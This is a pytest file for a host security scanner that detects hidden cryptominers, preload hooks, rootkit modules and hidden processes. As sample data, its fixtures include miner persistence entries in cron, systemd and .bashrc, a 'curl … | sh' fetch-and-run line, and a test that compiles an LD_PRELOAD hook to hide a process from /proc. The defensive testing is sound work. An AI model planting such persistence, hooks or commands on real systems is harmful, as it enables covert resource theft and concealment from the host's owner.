"""Host-level checks of `gpuguard scan`: persistence, device nodes, preload, kernel, hidden pids.

Autostart files and device nodes live in a temporary tree passed as
``--root``; the hidden process is a real sleeper hidden from this scan's
/proc listing by a real LD_PRELOAD readdir hook.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import time
from pathlib import Path

import pytest

from gpuguard.detect.host.checks import (
    HOST_RULES,
    MinerVocabulary,
    apply_thresholds,
    check_autostart_files,
    check_device_nodes,
    check_kernel,
    check_ld_so_preload,
    miner_reasons,
)
from gpuguard.detect.ruleset.load import load_ruleset
from gpuguard.detect.ruleset.model import Thresholds
from gpuguard.sources.host.gpu_stack import (
    DeviceNode,
    GpuStackFacts,
    KernelModule,
    decode_taint,
    read_device_nodes,
    read_driver_versions,
    read_modules,
)
from gpuguard.sources.host.persistence import MAX_FILE_BYTES, collect_autostart_files
from tests.support.scan import HIDER_C, PYTHON, REPO, compile_c, scan_json, sleeper


@pytest.fixture(scope="module")
def vocabulary() -> MinerVocabulary:
    ruleset = load_ruleset(None)
    lower = lambda name: [str(v).lower() for v in ruleset.lists[name]]  # noqa: E731
    return MinerVocabulary(
        frozenset(lower("miner_names")),
        frozenset(lower("stratum_schemes")),
        tuple(lower("pool_domains")),
        frozenset(lower("miner_flags")),
    )


def _write(root: Path, rel: str, text: str, mode: int = 0o644) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    os.chmod(path, mode)
    return path


@pytest.fixture
def infected_tree(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    _write(
        root,
        "etc/systemd/system/moneroocean_miner.service",
        "[Unit]\nDescription=system helper\n[Service]\n"
        "ExecStart=/root/moneroocean/xmrig --config=/root/moneroocean/config.json\nRestart=always\n",
    )
    _write(
        root,
        "etc/systemd/system/nginx.service",
        "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n",
    )
    _write(
        root,
        "etc/cron.d/sysupdate",
        "# helper\n*/5 * * * * root /tmp/.x/kswapd0 -o stratum+tcp://203.0.113.7:3333 -u 4abc\n",
    )
    _write(
        root,
        "etc/cron.d/logrotate",
        "25 6 * * * root test -x /usr/sbin/logrotate && /usr/sbin/logrotate\n",
    )
    _write(
        root,
        "home/alice/.bashrc",
        "alias ll='ls -l'\n# xmrig once lived here\n"
        "nohup ./kthreadd -o gulf.moneroocean.stream:10128 >/dev/null 2>&1 &\n",
    )
    _write(root, "etc/profile", "export PATH=/usr/bin:/bin\n")
    return root


def test_autostart_miners_found_with_file_and_line(infected_tree: Path, vocabulary):
    scan = collect_autostart_files(str(infected_tree))
    kinds = {f.path: f.kind for f in scan.files}
    assert kinds["/etc/cron.d/sysupdate"] == "cron"
    assert kinds["/home/alice/.bashrc"] == "shell-profile"
    findings = {f.subject: f for f in check_autostart_files(scan.files, vocabulary)}
    assert set(findings) == {
        "/etc/systemd/system/moneroocean_miner.service",
        "/etc/cron.d/sysupdate",
        "/home/alice/.bashrc",
    }
    unit = findings["/etc/systemd/system/moneroocean_miner.service"]
    assert unit.evidence == [
        "/etc/systemd/system/moneroocean_miner.service:4: "
        "ExecStart=/root/moneroocean/xmrig --config=/root/moneroocean/config.json"
    ]
    assert "miner xmrig" in unit.detail
    cron = findings["/etc/cron.d/sysupdate"]
    assert cron.evidence[0].startswith("/etc/cron.d/sysupdate:2: ")
    assert "pool URL stratum+tcp://" in cron.detail
    bashrc = findings["/home/alice/.bashrc"]
    assert bashrc.evidence[0].startswith(
        "/home/alice/.bashrc:3: "
    )  # the comment on line 2 is skipped
    assert "pool domain moneroocean.stream" in bashrc.detail


def test_cli_reports_persistence_and_exits_one(infected_tree: Path):
    rc, doc, _ = scan_json("--root", str(infected_tree), "--no-yara", "--cpu-sample", "0")
    persistence = [f for f in doc["findings"] if f["rule"]["id"] == "host-persistence-miner"]
    assert sorted(f["file"]["path"] for f in persistence) == [
        "/etc/cron.d/sysupdate",
        "/etc/systemd/system/moneroocean_miner.service",
        "/home/alice/.bashrc",
    ]
    assert all(f["gpuguard"]["verdict"] == "malicious" for f in persistence)  # 85 >= 75
    assert all(f["gpuguard"]["kind"] == "host" for f in persistence)
    assert "T1053" in persistence[0]["threat"]["technique"]["id"]
    assert "T1053.003" in persistence[0]["threat"]["technique"]["subtechnique"]["id"]
    assert rc == 1


def test_miner_reasons_need_a_whole_token(vocabulary):
    assert miner_reasons("killall -9 xmrig", vocabulary) == ["miner xmrig"]
    assert miner_reasons("cat /var/log/xmrig-notes.txt", vocabulary) == []
    assert miner_reasons("curl https://example.com/x.sh | sh", vocabulary) == []
    assert miner_reasons(
        "ExecStart=/opt/t-rex -a kawpow -o stratum+ssl://rvn.2miners.com:16060 --low-load 1",
        vocabulary,
    ) == [
        "miner t-rex",
        "pool URL stratum+ssl://",
        "pool domain 2miners.com",
        "miner flag --low-load",
    ]
    # a miner flag alone is not enough
    assert miner_reasons("run --coin monero", vocabulary) == []


def test_autostart_reading_is_bounded(tmp_path: Path, vocabulary):
    root = tmp_path / "root"
    (root / "etc/cron.d").mkdir(parents=True)
    os.mkfifo(root / "etc/cron.d/pipe")  # must not block the scan
    big = _write(root, "etc/cron.d/big", "# padding\n" * (300 * 1024 // 10))
    outside = tmp_path / "outside"
    outside.write_text("* * * * * root xmrig\n")
    (root / "etc/cron.d/escape").symlink_to(outside)  # resolves outside --root: ignored
    (root / "etc/cron.d/inside").symlink_to(big)  # inside: read (once)
    started = time.monotonic()
    scan = collect_autostart_files(str(root))
    assert time.monotonic() - started < 5
    by_path = {f.path: f for f in scan.files}
    assert set(by_path) == {"/etc/cron.d/big"}
    assert by_path["/etc/cron.d/big"].truncated is False  # comments are streamed past, not kept
    assert by_path["/etc/cron.d/big"].lines == [] and scan.partly_read == []
    assert check_autostart_files(scan.files, vocabulary) == []


def test_comment_padding_does_not_hide_a_miner_line(tmp_path: Path, vocabulary):
    """256 KiB of comments before the miner line once hid it (the reader stopped at 256 KiB)."""
    root = tmp_path / "root"
    padding = "# " + "x" * 78 + "\n"
    _write(
        root,
        "etc/cron.d/job",
        padding * ((1 << 20) // 80) + "* * * * * root /tmp/xmrig -o stratum+tcp://p:3333\n",
    )
    _write(root, "root/.bashrc", "\n" * (1 << 20) + "nohup /tmp/.x/xmrig &\n")
    scan = collect_autostart_files(str(root))
    found = {f.subject: f for f in check_autostart_files(scan.files, vocabulary)}
    assert set(found) == {"/etc/cron.d/job", "/root/.bashrc"}
    assert found["/root/.bashrc"].evidence == [
        f"/root/.bashrc:{(1 << 20) + 1}: nohup /tmp/.x/xmrig &"
    ]
    assert scan.partly_read == []


def test_what_a_bound_leaves_unread_is_a_blind_spot_with_its_path(
    tmp_path: Path, monkeypatch, vocabulary
):
    from gpuguard.sources.host import persistence

    monkeypatch.setattr(persistence, "MAX_FILE_BYTES", 4096)
    monkeypatch.setattr(persistence, "MAX_LINE_CHARS", 100)
    root = tmp_path / "root"
    _write(root, "etc/cron.d/long", "# c\n" * 2000 + "* * * * * root xmrig\n")
    _write(
        root,
        "etc/cron.d/wide",
        "A=" + "y" * 500 + " xmrig\n* * * * * root xmrig -o stratum+tcp://p:1\n",
    )
    scan = collect_autostart_files(str(root))
    assert scan.partly_read == ["/etc/cron.d/long (larger than 4096 bytes; read to line 1025)"]
    wide = [f for f in scan.files if f.path == "/etc/cron.d/wide"][0]
    assert [n for n, _ in wide.lines] == [1, 2] and len(
        wide.lines[0][1]
    ) == 100  # cut, and line 2 still found


def test_an_autostart_file_beyond_the_bound_is_a_blind_spot_in_the_scan(tmp_path: Path):
    root = tmp_path / "root"
    (root / "etc/cron.d").mkdir(parents=True)
    line = b"#" + b"x" * 60000 + b"\n"
    with open(root / "etc/cron.d/huge", "wb") as f:
        for _ in range(MAX_FILE_BYTES // len(line) + 2):
            f.write(line)
        f.write(b"* * * * * root /tmp/xmrig -o stratum+tcp://p:3333\n")
    _, doc, _ = scan_json("--root", str(root), "--no-yara", "--cpu-sample", "0")
    blind = [x for x in doc["summary"]["could_not_see"] if "/etc/cron.d/huge" in x]
    assert blind and "read only part of autostart file /etc/cron.d/huge (larger than" in blind[0]


def test_ld_so_preload_reported():
    assert check_ld_so_preload(None) == []
    assert check_ld_so_preload("# nothing\n\n") == []
    finding = check_ld_so_preload("/usr/local/lib/libprocesshider.so\n")[0]
    assert finding.rule_id == "host-ld-so-preload"
    assert finding.detail == "/etc/ld.so.preload preloads /usr/local/lib/libprocesshider.so"


def test_cli_reads_ld_so_preload_under_root(tmp_path: Path):
    root = tmp_path / "root"
    _write(root, "etc/ld.so.preload", "/lib/x86_64-linux-gnu/libsystem.so\n")
    _, doc, _ = scan_json("--root", str(root), "--no-yara", "--cpu-sample", "0")
    preload = [f for f in doc["findings"] if f["rule"]["id"] == "host-ld-so-preload"]
    assert len(preload) == 1
    assert preload[0]["gpuguard"]["verdict"] == "suspicious"
    assert preload[0]["file"]["path"] == "/etc/ld.so.preload"


def test_world_writable_gpu_files_under_root(tmp_path: Path):
    root = tmp_path / "root"
    _write(root, "dev/nvidia0", "", 0o666)
    _write(root, "dev/nvidiactl", "", 0o660)
    _write(root, "dev/dri/renderD128", "", 0o666)
    _write(root, "dev/mem", "", 0o644)
    _write(root, "dev/random", "", 0o666)  # not a GPU file: ignored
    nodes = {n.path: n for n in read_device_nodes(str(root))}
    assert set(nodes) == {"/dev/nvidia0", "/dev/nvidiactl", "/dev/dri/renderD128", "/dev/mem"}
    findings = {f.subject: f.rule_id for f in check_device_nodes(nodes.values())}
    assert findings == {
        "/dev/nvidia0": "host-gpu-node-world-writable",
        "/dev/dri/renderD128": "host-gpu-node-world-writable",
        "/dev/mem": "host-raw-memory-node-exposed",
    }


@pytest.mark.root
@pytest.mark.self_contained
def test_world_writable_character_node_reported_by_cli(tmp_path: Path):
    root = tmp_path / "root"
    (root / "dev").mkdir(parents=True)
    os.mknod(root / "dev/nvidia0", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    os.chmod(root / "dev/nvidia0", 0o666)
    os.mknod(root / "dev/kfd", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    rc, doc, _ = scan_json("--root", str(root), "--no-yara", "--cpu-sample", "0")
    node_findings = [
        f for f in doc["findings"] if f["rule"]["id"] == "host-gpu-node-world-writable"
    ]
    assert [f["file"]["path"] for f in node_findings] == ["/dev/nvidia0"]
    assert node_findings[0]["gpuguard"]["verdict"] == "clean"  # a hardening note: score 20
    assert node_findings[0]["gpuguard"]["severity"] == "low"
    listed = {n["path"]: n["mode"] for n in doc["summary"]["gpu_stack"]["device_nodes"]}
    assert listed == {"/dev/nvidia0": "0666", "/dev/kfd": "0600"}


def test_kernel_taint_decoded():
    flags = decode_taint((1 << 0) | (1 << 12) | (1 << 13))
    assert [(f.letter, f.meaning) for f in flags] == [
        ("P", "proprietary module loaded"),
        ("O", "out-of-tree module loaded"),
        ("E", "unsigned module loaded"),
    ]
    assert decode_taint(0) == []


def test_kernel_checks():
    stack = GpuStackFacts(
        modules=[KernelModule("nvidia", "Live", "POE"), KernelModule("diamorphine", "Live", "OE")],
        taint=(1 << 1) | (1 << 12),
        taint_flags=decode_taint((1 << 1) | (1 << 12)),
        driver_versions={"nvml": "550.54.14", "nvidia-kernel": "535.104.05"},
    )
    findings = {f.rule_id: f for f in check_kernel(stack)}
    assert set(findings) == {
        "host-kernel-forced-module",
        "host-untrusted-kernel-module",
        "host-gpu-driver-mismatch",
    }
    assert findings["host-untrusted-kernel-module"].subject == "diamorphine"
    assert (
        findings["host-untrusted-kernel-module"].detail
        == "module diamorphine is out-of-tree and unsigned (taint OE)"
    )
    assert findings["host-kernel-forced-module"].detail == "kernel taint F (module force-loaded)"
    assert (
        findings["host-gpu-driver-mismatch"].detail
        == "NVML reports driver 550.54.14, the kernel module is 535.104.05"
    )
    clean = GpuStackFacts(
        modules=[KernelModule("nvidia", "Live", "POE")],
        taint=1,
        taint_flags=decode_taint(1),
        driver_versions={"nvml": "550.54.14", "nvidia-kernel": "550.54.14"},
    )
    assert check_kernel(clean) == []


def test_module_and_driver_files_parsed(tmp_path: Path):
    proc, sys_ = tmp_path / "proc", tmp_path / "sys"
    (proc / "driver/nvidia").mkdir(parents=True)
    (proc / "driver/nvidia/version").write_text(
        "NVRM version: NVIDIA UNIX x86_64 Kernel Module  550.54.14  Thu Feb 22 01:44:30 UTC 2024\n"
        "GCC version:  gcc version 12.2.0\n"
    )
    (proc / "modules").write_text(
        "nvidia_uvm 1798144 2 - Live 0x0000000000000000 (POE)\n"
        "rootkit 16384 0 - Live 0x0000000000000000 (OE)\n"
        "ext4 1028096 1 - Live 0x0000000000000000\n"
    )
    for name, taint in (("nvidia_uvm", "POE"), ("rootkit", "OE"), ("ext4", "")):
        (sys_ / "module" / name).mkdir(parents=True)
        (sys_ / "module" / name / "taint").write_text(taint + "\n")
    assert read_driver_versions(str(proc), str(sys_)) == {"nvidia-kernel": "550.54.14"}
    modules = read_modules(str(proc), str(sys_))
    assert [(m.name, m.state, m.taint) for m in modules] == [
        ("nvidia_uvm", "Live", "POE"),
        ("rootkit", "Live", "OE"),
    ]


def test_thresholds_give_verdicts():
    node = DeviceNode("/dev/nvidia0", "nvidia", 0o666, 0, 0, True)
    mem = DeviceNode("/dev/mem", "mem", 0o666, 0, 0, True)
    findings = check_device_nodes([node, mem])
    apply_thresholds(findings, Thresholds(40, 75))
    assert [(f.rule_id, f.verdict) for f in findings] == [
        ("host-gpu-node-world-writable", "clean"),
        ("host-raw-memory-node-exposed", "suspicious"),
    ]
    assert all(
        rule.id.startswith("host-") and 0 < rule.score <= 100 for rule in HOST_RULES.values()
    )


def test_pid_hidden_by_preload_hook_is_found(tmp_path: Path):
    hider = compile_c(HIDER_C, tmp_path / "libhide.so", shared=True)
    with sleeper() as hidden:
        env = {"LD_PRELOAD": str(hider), "GG_TEST_HIDE_PID": str(hidden.pid)}
        # the hook really hides it from this scan's listing
        listing = subprocess.run(
            ["ls", "/proc"], capture_output=True, text=True, env={**os.environ, **env}
        ).stdout
        assert str(hidden.pid) not in listing.split()
        rc, doc, _ = scan_json("--no-yara", "--cpu-sample", "0", "--root", str(tmp_path), env=env)
    # The host may run anything else: this asserts about the process it hid (the next test shows
    # that nothing is reported where nothing hides, in a pid namespace of its own).
    found = [
        f
        for f in doc["findings"]
        if f["rule"]["id"] == "host-hidden-process" and f["process"]["pid"] == hidden.pid
    ]
    assert len(found) == 1
    assert found[0]["process"]["name"] == "sleep"
    assert found[0]["gpuguard"]["verdict"] == "malicious"
    assert "cgroup.procs" in found[0]["message"]
    assert rc == 1  # follows from the malicious finding above, whatever else runs


@pytest.mark.root  # a pid namespace of its own
@pytest.mark.self_contained
def test_no_hidden_pids_without_a_hook(tmp_path: Path):
    # In a pid namespace of its own the scan's host is what this test started, so "nothing hidden"
    # is an assertion about those processes, not about whatever else the machine runs.  The two
    # `true`s take recent pids and exit: candidates the check must probe and clear.
    done = subprocess.run(
        [
            "unshare", "--pid", "--fork", "--mount-proc", "sh", "-c",
            'sleep 60 & /bin/true; /bin/true; "$@"; kill $!', "sh",
            *[PYTHON, "-m", "gpuguard", "scan", "--json", "--no-yara", "--cpu-sample", "0"],
            *["--root", str(tmp_path)],
        ],
        capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=120,
    )  # fmt: skip
    assert "Traceback" not in done.stderr, done.stderr
    doc = json.loads(done.stdout)
    assert [f for f in doc["findings"] if f["rule"]["id"] == "host-hidden-process"] == []
    assert doc["summary"]["counters"]["hidden_pid_candidates"] > 0
    # sh, its sleep and the scan itself: the namespace's, not the host's
    assert doc["summary"]["processes_scanned"] == 3, doc["summary"]
